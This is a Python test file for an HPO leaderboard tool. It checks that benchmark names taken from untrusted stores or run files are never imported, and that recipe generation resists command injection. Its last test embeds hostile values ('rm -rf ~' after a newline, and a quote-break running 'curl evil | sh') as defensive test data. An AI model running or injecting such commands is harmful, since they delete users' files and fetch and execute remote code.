"""A store of somebody else: what it names is quoted, never imported and never part of a command."""

import json
import sys
import tomllib

import pytest

from hpo_core import Run
from hpo_leaderboard.experiments.execution import execute
from hpo_leaderboard.experiments.job import Job
from hpo_leaderboard.experiments.members import Member
from hpo_leaderboard.experiments.plan import make_plan
from hpo_leaderboard.experiments.suite import make_suite
from hpo_leaderboard.leaderboards import ranked
from hpo_leaderboard.report import write_report
from hpo_leaderboard.report.recipe import recipe
from hpo_leaderboard.stopping.run_sources import read_runs
from hpo_leaderboard.store.store import writing


@pytest.fixture
def received(tmp_path, monkeypatch):
    """A store whose benchmark is a module that leaves a file when it is imported."""
    (tmp_path / "planted.py").write_text(f"open({str(tmp_path / 'TOUCHED')!r}, 'w').close()\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    monkeypatch.delitem(sys.modules, "planted", raising=False)
    plan = make_plan(make_suite("theirs", ["branin"], ["rs", "de"], n_seeds=2, n_trials=4))
    planted = Member("planted:problem", {"command": "touch TOUCHED"}, "planted:problem")
    with writing(tmp_path / "theirs.sqlite") as store:
        store.add_tasks([task._replace(benchmark="planted:problem") for task in plan.tasks], {})
        for job in plan.jobs:
            store.add([(other := Job(**{**vars(job), "benchmark": planted}), as_run_of(other, execute(job)))])
    return tmp_path / "theirs.sqlite"


def as_run_of(job, done):
    from hpo_leaderboard.experiments.execution import run_digest
    from hpo_leaderboard.store.columns import decompress

    digest = run_digest(job.key, done.reason, decompress(done.numbers), decompress(done.configs))
    return done._replace(key=job.key, digest=digest)


@pytest.mark.slow
def test_nothing_that_a_store_names_is_imported(received):
    page = write_report(received, received.parent / "out").read_text()
    ranked(received)
    read_runs(received)
    assert not (received.parent / "TOUCHED").exists() and "planted" not in sys.modules
    assert "look at it before you run it" in page and "planted:problem" in page
    suite = (received.parent / "out" / "methods" / "suite.toml").read_text()
    assert suite.startswith(
        '# names code to import; look at it, then run this with --allow-import: ["planted:problem"]'
    )
    assert tomllib.loads(suite)["benchmarks"][0]["name"] == "planted:problem"


def test_nothing_that_a_run_file_names_is_imported(received):
    path = received.parent / "run.jsonl"
    from hpo_core import run

    made = run("branin", "rs", n_trials=3)
    Run("planted:problem", made.optimizer, made.seed, made.workers, made.reason, made.trials).save(path)
    assert Run.load(path).benchmark == "planted:problem"
    read_runs(path)
    ranked([Run.load(path)])
    assert not (received.parent / "TOUCHED").exists()


def test_notes_of_a_store_are_no_part_of_a_command():
    said = [json.loads(job.description) for job in make_plan(make_suite("x", ["branin"], ["rs"], n_seeds=1)).jobs]
    said[0]["optimizer"]["name"] = "a:b\nrm -rf ~"
    about = {"hpo-foundry": '1"; curl evil | sh; "', "python": "3\nrm -rf ~"}
    lines = recipe("a b;c.sqlite", about, ["suite.toml"], said, "0" * 64)
    assert lines[0] == 'pip install "hpo-foundry[report]"'
    assert all(line.startswith(("#", "pip install", "hpo ")) and "\n" not in line for line in lines)
    assert "hpo leaderboard suite.toml --store 'a b;c.sqlite' --out report" in lines
